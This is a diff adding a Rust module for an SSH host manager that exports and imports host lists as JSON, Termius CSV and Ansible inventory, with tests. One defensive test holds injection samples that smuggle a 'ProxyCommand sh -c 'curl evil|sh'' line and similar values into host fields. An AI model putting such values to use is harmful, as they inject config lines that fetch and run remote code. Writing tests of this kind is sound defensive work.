@@ -0,0 +1,547 @@
+use anyhow::{anyhow, Context, Result};
+use serde::{Deserialize, Serialize};
+use std::collections::{BTreeMap, HashSet};
+use std::path::Path;
+
+use crate::edit::{self, HostBlock};
+use crate::ssh;
+
+/// Version of the JSON host list written by `sgh export`.
+pub const FORMAT_VERSION: u32 = 1;
+
+/// Columns of the Termius CSV host import/export.
+const TERMIUS_COLUMNS: [&str; 7] = [
+    "Groups",
+    "Label",
+    "Tags",
+    "Hostname/IP",
+    "Protocol",
+    "Port",
+    "Username",
+];
+
+/// File formats `sgh export` can write.
+#[derive(clap::ValueEnum, Clone, Copy, Debug, Default, PartialEq, Eq)]
+pub enum ExportFormat {
+    /// sgh's neutral JSON host list.
+    #[default]
+    Json,
+    /// CSV in the layout of Termius' host import.
+    TermiusCsv,
+    /// Ansible INI inventory, with a group per tag.
+    Ansible,
+}
+
+/// A host list that can be shared through a repository: only the settings
+/// needed to reach each host, without paths of the personal config.
+#[derive(Debug, Default, Serialize, Deserialize)]
+pub struct HostList {
+    pub version: u32,
+    pub hosts: Vec<SharedHost>,
+}
+
+/// One host of a `HostList`. Forwards are kept in SSH config syntax, e.g.
+/// `5432 localhost:5432`.
+#[derive(Debug, Default, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct SharedHost {
+    pub name: String,
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub aliases: Vec<String>,
+    pub hostname: String,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub user: Option<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub port: Option<u16>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub proxy_jump: Option<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub identity_file: Option<String>,
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub local_forwards: Vec<String>,
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub remote_forwards: Vec<String>,
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub dynamic_forwards: Vec<String>,
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub tags: Vec<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub note: Option<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub dir: Option<String>,
+    #[serde(skip_serializing_if = "BTreeMap::is_empty")]
+    pub env: BTreeMap<String, String>,
+}
+
+impl SharedHost {
+    #[must_use]
+    pub fn from_host(host: &ssh::Host) -> SharedHost {
+        SharedHost {
+            name: host.name.clone(),
+            aliases: host
+                .aliases
+                .split(", ")
+                .filter(|a| !a.is_empty())
+                .map(str::to_string)
+                .collect(),
+            hostname: host.destination.clone(),
+            user: host.user.clone(),
+            port: host.port_number(),
+            proxy_jump: host.proxy_jump.clone(),
+            identity_file: host.identity_file.clone(),
+            local_forwards: host
+                .local_forwards
+                .iter()
+                .map(|lf| format!("{} {}", lf.listen(), lf.target()))
+                .collect(),
+            remote_forwards: host
+                .remote_forwards
+                .iter()
+                .map(|rf| format!("{} {}", rf.listen(), rf.target()))
+                .collect(),
+            dynamic_forwards: host.dynamic_forwards.iter().map(|df| df.listen()).collect(),
+            tags: host.tags.clone(),
+            note: host.note.clone(),
+            dir: host.dir.clone(),
+            env: host.env.clone(),
+        }
+    }
+
+    /// The `Host` block that recreates this host.
+    #[must_use]
+    pub fn to_block(&self) -> HostBlock {
+        let mut name = self.name.clone();
+        for alias in &self.aliases {
+            name.push(' ');
+            name.push_str(alias);
+        }
+
+        let mut entries = Vec::new();
+        let mut push = |keyword: &str, value: Option<String>| {
+            if let Some(value) = value.filter(|v| !v.is_empty()) {
+                entries.push((keyword.to_string(), value));
+            }
+        };
+        push("HostName", Some(self.hostname.clone()));
+        push("User", self.user.clone());
+        push("Port", self.port.map(|p| p.to_string()));
+        push("ProxyJump", self.proxy_jump.clone());
+        push("IdentityFile", self.identity_file.clone());
+        for forward in &self.local_forwards {
+            push("LocalForward", Some(forward.clone()));
+        }
+        for forward in &self.remote_forwards {
+            push("RemoteForward", Some(forward.clone()));
+        }
+        for forward in &self.dynamic_forwards {
+            push("DynamicForward", Some(forward.clone()));
+        }
+
+        let mut directives = Vec::new();
+        if !self.tags.is_empty() {
+            directives.push(("tags".to_string(), self.tags.join(" ")));
+        }
+        if let Some(note) = self.note.clone().filter(|n| !n.is_empty()) {
+            directives.push(("note".to_string(), note));
+        }
+        if let Some(dir) = self.dir.clone().filter(|d| !d.is_empty()) {
+            directives.push(("dir".to_string(), dir));
+        }
+        for (key, value) in &self.env {
+            directives.push(("env".to_string(), format!("{key}={value}")));
+        }
+
+        HostBlock {
+            name,
+            entries,
+            directives,
+        }
+    }
+
+    /// Every text value of the host, to check before any of it is written
+    /// to a config file.
+    fn fields(&self) -> impl Iterator<Item = &str> {
+        let optional = [&self.user, &self.proxy_jump, &self.identity_file, &self.note, &self.dir];
+        self.names()
+            .chain([self.hostname.as_str()])
+            .chain(optional.into_iter().flatten().map(String::as_str))
+            .chain(self.local_forwards.iter().chain(&self.remote_forwards).chain(&self.dynamic_forwards).map(String::as_str))
+            .chain(self.tags.iter().map(String::as_str))
+            .chain(self.env.iter().flat_map(|(key, value)| [key.as_str(), value.as_str()]))
+    }
+
+    fn names(&self) -> impl Iterator<Item = &str> {
+        std::iter::once(self.name.as_str()).chain(self.aliases.iter().map(String::as_str))
+    }
+}
+
+/// Writes the connectable hosts (pattern blocks are left out) as `format`.
+///
+/// # Errors
+///
+/// Will return `Err` if the JSON cannot be serialized.
+pub fn export(hosts: &[ssh::Host], format: ExportFormat) -> Result<String> {
+    let shared: Vec<SharedHost> = hosts
+        .iter()
+        .filter(|h| !h.is_pattern)
+        .map(SharedHost::from_host)
+        .collect();
+
+    Ok(match format {
+        ExportFormat::Json => {
+            let list = HostList {
+                version: FORMAT_VERSION,
+                hosts: shared,
+            };
+            serde_json::to_string_pretty(&list)? + "\n"
+        }
+        ExportFormat::TermiusCsv => to_termius_csv(&shared),
+        ExportFormat::Ansible => to_ansible_inventory(&shared),
+    })
+}
+
+/// Reads a host list written by `sgh export`.
+///
+/// # Errors
+///
+/// Will return `Err` if the JSON is malformed or from a newer format version.
+pub fn from_json(json: &str) -> Result<Vec<SharedHost>> {
+    let list: HostList = serde_json::from_str(json)?;
+    if list.version > FORMAT_VERSION {
+        return Err(anyhow!(
+            "Host list format version {} is newer than supported ({FORMAT_VERSION})",
+            list.version
+        ));
+    }
+    // 共有されたリストは信用できないので、改行などで設定に行を足せないようにする
+    for host in &list.hosts {
+        if let Some(field) = host.fields().find(|field| field.contains(char::is_control)) {
+            return Err(anyhow!("Host {:?} in the host list has a control character in {field:?}", host.name));
+        }
+    }
+    Ok(list.hosts)
+}
+
+fn to_termius_csv(hosts: &[SharedHost]) -> String {
+    let mut out = TERMIUS_COLUMNS.join(",") + "\n";
+    for host in hosts {
+        let port = host.port.map(|p| p.to_string()).unwrap_or_default();
+        let fields = [
+            "",
+            &host.name,
+            &host.tags.join(","),
+            &host.hostname,
+            "ssh",
+            &port,
+            host.user.as_deref().unwrap_or_default(),
+        ];
+        let row: Vec<String> = fields.iter().map(|f| csv_field(f)).collect();
+        out.push_str(&row.join(","));
+        out.push('\n');
+    }
+    out
+}
+
+/// Every host with its connection variables under `[all]`, then one group
+/// per tag listing the hosts that carry it.
+fn to_ansible_inventory(hosts: &[SharedHost]) -> String {
+    let mut out = String::from("# Written by sgh export --format ansible\n[all]\n");
+    let mut groups: BTreeMap<String, Vec<&str>> = BTreeMap::new();
+    for host in hosts {
+        let mut vars = Vec::new();
+        if !host.hostname.is_empty() && host.hostname != host.name {
+            vars.push(("ansible_host", host.hostname.clone()));
+        }
+        if let Some(user) = &host.user {
+            vars.push(("ansible_user", user.clone()));
+        }
+        if let Some(port) = host.port {
+            vars.push(("ansible_port", port.to_string()));
+        }
+        if let Some(key) = &host.identity_file {
+            vars.push(("ansible_ssh_private_key_file", key.clone()));
+        }
+        if let Some(jump) = &host.proxy_jump {
+            vars.push(("ansible_ssh_common_args", format!("-o ProxyJump={jump}")));
+        }
+
+        out.push_str(&host.name);
+        for (name, value) in vars {
+            // INI の値は shlex で分割されるので、空白を含む値は引用する
+            let value = shlex::try_quote(&value).map_or(value.clone(), std::borrow::Cow::into_owned);
+            out.push_str(&format!(" {name}={value}"));
+        }
+        out.push('\n');
+        for tag in &host.tags {
+            // web-1 と web.1 のように同じ名前になるタグでは、ホストを一度だけ載せる
+            let members = groups.entry(ansible_group(tag)).or_default();
+            if !members.contains(&host.name.as_str()) {
+                members.push(&host.name);
+            }
+        }
+    }
+    for (group, names) in groups {
+        out.push_str(&format!("\n[{group}]\n"));
+        for name in names {
+            out.push_str(name);
+            out.push('\n');
+        }
+    }
+    out
+}
+
+/// A tag as an Ansible group name, which may only hold letters, digits and
+/// underscores. The `tag_` prefix keeps it clear of the built-in `all` and
+/// `ungrouped` groups and of names starting with a digit.
+fn ansible_group(tag: &str) -> String {
+    let name: String = tag
+        .chars()
+        .map(|c| if c.is_ascii_alphanumeric() { c } else { '_' })
+        .collect();
+    format!("tag_{name}")
+}
+
+/// Reads a Termius CSV export. Columns are matched by header name, so extra
+/// or reordered columns are fine; rows without a hostname are skipped.
+///
+/// # Errors
+///
+/// Will return `Err` if the header has no hostname column.
+pub fn from_termius_csv(csv: &str) -> Result<Vec<SharedHost>> {
+    let mut rows = csv.lines().filter(|l| !l.trim().is_empty()).map(parse_csv_row);
+    let header: Vec<String> = rows
+        .next()
+        .unwrap_or_default()
+        .iter()
+        .map(|h| h.trim().to_lowercase())
+        .collect();
+    let column = |names: &[&str]| header.iter().position(|h| names.contains(&h.as_str()));
+
+    let hostname = column(&["hostname/ip", "hostname", "host", "address"])
+        .ok_or(anyhow!("CSV has no Hostname/IP column"))?;
+    let label = column(&["label", "alias", "name"]);
+    let port = column(&["port"]);
+    let user = column(&["username", "user"]);
+    let tags = column(&["tags"]);
+
+    Ok(rows
+        .filter_map(|row| {
+            let get = |i: Option<usize>| {
+                i.and_then(|i| row.get(i))
+                    .map(|v| v.trim().to_string())
+                    .filter(|v| !v.is_empty())
+            };
+            let hostname = get(Some(hostname))?;
+            Some(SharedHost {
+                name: get(label).unwrap_or_else(|| hostname.clone()).replace(char::is_whitespace, "-"),
+                hostname,
+                user: get(user),
+                port: get(port).and_then(|p| p.parse().ok()),
+                tags: get(tags)
+                    .map(|t| t.split([',', ' ']).filter(|t| !t.is_empty()).map(str::to_string).collect())
+                    .unwrap_or_default(),
+                ..SharedHost::default()
+            })
+        })
+        .collect())
+}
+
+/// Quotes a CSV field when it contains a separator, quote or newline.
+fn csv_field(value: &str) -> String {
+    if value.contains([',', '"', '\n']) {
+        format!("\"{}\"", value.replace('"', "\"\""))
+    } else {
+        value.to_string()
+    }
+}
+
+/// Splits one CSV line, honouring `"quoted, fields"` and `""` escapes.
+fn parse_csv_row(line: &str) -> Vec<String> {
+    let mut fields = Vec::new();
+    let mut field = String::new();
+    let mut in_quotes = false;
+    let mut chars = line.chars().peekable();
+
+    while let Some(c) = chars.next() {
+        match c {
+            '"' if in_quotes && chars.peek() == Some(&'"') => {
+                field.push('"');
+                chars.next();
+            }
+            '"' => in_quotes = !in_quotes,
+            ',' if !in_quotes => fields.push(std::mem::take(&mut field)),
+            _ => field.push(c),
+        }
+    }
+    fields.push(field);
+    fields
+}
+
+/// Appends the hosts whose names are not configured yet to `target`.
+/// Returns the names that were added and the ones skipped as duplicates.
+///
+/// # Errors
+///
+/// Will return `Err` if `target` cannot be written.
+pub fn import_hosts(
+    shared: &[SharedHost],
+    target: &Path,
+    existing: &[ssh::Host],
+) -> Result<(Vec<String>, Vec<String>)> {
+    let mut known: HashSet<String> = existing
+        .iter()
+        .flat_map(|h| {
+            std::iter::once(h.name.clone()).chain(h.aliases.split(", ").map(str::to_string))
+        })
+        .collect();
+
+    let (mut added, mut skipped) = (Vec::new(), Vec::new());
+    for host in shared {
+        if host.name.is_empty() || host.names().any(|name| known.contains(name)) {
+            skipped.push(host.name.clone());
+            continue;
+        }
+        edit::append_host(target, &host.to_block())
+            .with_context(|| format!("Failed to add {}", host.name))?;
+        known.extend(host.names().map(str::to_string));
+        added.push(host.name.clone());
+    }
+
+    Ok((added, skipped))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn sample() -> ssh::Host {
+        ssh::Host {
+            name: "db".to_string(),
+            aliases: "db-primary".to_string(),
+            destination: "10.0.0.5".to_string(),
+            user: Some("admin".to_string()),
+            port: Some("2200".to_string()),
+            tags: vec!["prod".to_string(), "sql".to_string()],
+            note: Some("primary, do not reboot".to_string()),
+            env: BTreeMap::from([("PGSERVICE".to_string(), "main".to_string())]),
+            ..ssh::Host::default()
+        }
+    }
+
+    #[test]
+    fn json_round_trips_to_a_host_block() {
+        let json = export(&[sample()], ExportFormat::Json).unwrap();
+        let hosts = from_json(&json).unwrap();
+        assert_eq!(hosts, vec![SharedHost::from_host(&sample())]);
+        assert_eq!(
+            hosts[0].to_block().render().unwrap(),
+            "Host db db-primary\n  HostName 10.0.0.5\n  User admin\n  Port 2200\n  # sgh:tags prod sql\n  # sgh:note primary, do not reboot\n  # sgh:env PGSERVICE=main\n"
+        );
+
+        assert!(from_json(r#"{"version": 99, "hosts": []}"#).is_err());
+    }
+
+    #[test]
+    fn shared_lists_cannot_add_lines_to_the_config() {
+        let injected = [
+            r#"{"name": "db", "hostname": "10.0.0.5", "note": "x\n  ProxyCommand sh -c 'curl evil|sh'"}"#,
+            r#"{"name": "db", "hostname": "10.0.0.5\n  # sgh:on-start curl evil|sh"}"#,
+            r#"{"name": "db", "hostname": "10.0.0.5", "env": {"A": "1\r\nHost *"}}"#,
+        ];
+        for host in injected {
+            let json = format!(r#"{{"version": 1, "hosts": [{host}]}}"#);
+            assert!(from_json(&json).is_err(), "{host}");
+        }
+
+        let mut host = SharedHost::from_host(&sample());
+        host.note = Some("x\n  ProxyCommand sh -c 'curl evil|sh'".to_string());
+        let err = host.to_block().render().unwrap_err().to_string();
+        assert!(err.contains("line break"), "{err}");
+    }
+
+    #[test]
+    fn ansible_inventories_group_hosts_by_tag() {
+        let web = ssh::Host {
+            name: "web".to_string(),
+            destination: "web".to_string(),
+            proxy_jump: Some("bastion".to_string()),
+            tags: vec!["prod".to_string(), "front-end".to_string()],
+            ..ssh::Host::default()
+        };
+        assert_eq!(
+            export(&[sample(), web], ExportFormat::Ansible).unwrap(),
+            "# Written by sgh export --format ansible\n[all]\n\
+             db ansible_host=10.0.0.5 ansible_user=admin ansible_port=2200\n\
+             web ansible_ssh_common_args='-o ProxyJump=bastion'\n\
+             \n[tag_front_end]\nweb\n\n[tag_prod]\ndb\nweb\n\n[tag_sql]\ndb\n"
+        );
+    }
+
+    #[test]
+    fn ansible_groups_avoid_reserved_names_and_list_hosts_once() {
+        let web = ssh::Host {
+            name: "web".to_string(),
+            destination: "web".to_string(),
+            tags: vec!["all".to_string(), "1st".to_string(), "web-1".to_string(), "web.1".to_string()],
+            ..ssh::Host::default()
+        };
+        let inventory = export(&[web], ExportFormat::Ansible).unwrap();
+        assert!(
+            inventory.ends_with("\n[tag_1st]\nweb\n\n[tag_all]\nweb\n\n[tag_web_1]\nweb\n"),
+            "{inventory}"
+        );
+    }
+
+    #[test]
+    fn termius_csv_round_trips() {
+        let csv = export(&[sample()], ExportFormat::TermiusCsv).unwrap();
+        assert_eq!(
+            csv,
+            "Groups,Label,Tags,Hostname/IP,Protocol,Port,Username\n,db,\"prod,sql\",10.0.0.5,ssh,2200,admin\n"
+        );
+
+        let hosts = from_termius_csv(&csv).unwrap();
+        assert_eq!(hosts[0].name, "db");
+        assert_eq!(hosts[0].hostname, "10.0.0.5");
+        assert_eq!(hosts[0].port, Some(2200));
+        assert_eq!(hosts[0].tags, vec!["prod", "sql"]);
+
+        let reordered = "Username,Hostname/IP\nroot,web.example\n,\n";
+        let hosts = from_termius_csv(reordered).unwrap();
+        assert_eq!(hosts.len(), 1);
+        assert_eq!(hosts[0].name, "web.example");
+
+        assert!(from_termius_csv("Label,Port\nx,22\n").is_err());
+    }
+
+    #[test]
+    fn import_skips_hosts_that_already_exist() {
+        let dir = std::env::temp_dir().join(format!("sgh-exchange-test-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&dir);
+        let target = dir.join("config");
+
+        let shared = vec![
+            SharedHost::from_host(&sample()),
+            SharedHost {
+                name: "web".to_string(),
+                hostname: "web.example".to_string(),
+                ..SharedHost::default()
+            },
+        ];
+        let existing = [ssh::Host {
+            name: "web".to_string(),
+            ..ssh::Host::default()
+        }];
+
+        let (added, skipped) = import_hosts(&shared, &target, &existing).unwrap();
+        assert_eq!(added, vec!["db"]);
+        assert_eq!(skipped, vec!["web"]);
+
+        let hosts = ssh::parse_config(&target).unwrap();
+        assert_eq!(hosts[0].name, "db");
+        assert_eq!(hosts[0].aliases, "db-primary");
+        assert_eq!(hosts[0].tags, vec!["prod", "sql"]);
+        assert_eq!(hosts[0].note.as_deref(), Some("primary, do not reboot"));
+        assert_eq!(hosts[0].env, sample().env);
+    }
+}